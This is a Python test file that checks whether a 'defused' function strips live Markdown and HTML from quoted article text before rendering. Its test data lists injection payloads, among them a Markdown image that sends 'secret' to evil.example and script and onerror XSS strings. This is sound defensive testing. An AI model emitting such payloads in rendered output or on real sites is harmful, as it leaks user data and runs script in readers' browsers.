"""What an article's words can do where Markdown is shown: nothing."""

import pytest
from markdown_it import MarkdownIt

from server.openai.rendering import defused

LIVE = [
    "![a picture](https://evil.example/?q=secret)",
    "Click [here](//evil.example/) now",
    "Click [here][1] now\n\n[1]: https://evil.example/",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example/>",
    "<script>alert(1)</script>",
    "![a picture][1]\n\n[1]: https://evil.example/p.png",
    "[![nested](https://evil.example/i)](https://evil.example/)",
]


@pytest.mark.parametrize("text", LIVE)
def test_no_link_no_picture_no_markup(text: str) -> None:
    shown = MarkdownIt("commonmark").render(defused(f"“{text}”"))
    assert "<a " not in shown
    assert "<img" not in shown
    assert "<script" not in shown


@pytest.mark.parametrize("text", LIVE)
def test_without_it_there_would_be_some(text: str) -> None:
    shown = MarkdownIt("commonmark").render(text)
    assert any(tag in shown for tag in ("<a ", "<img", "<script"))


@pytest.mark.parametrize(
    "text", ["He said [sic] so.", "3 < 5 and 7 > 2", "“Well!” [She laughs.]", "a*b_c `d`"]
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert defused(text) == text
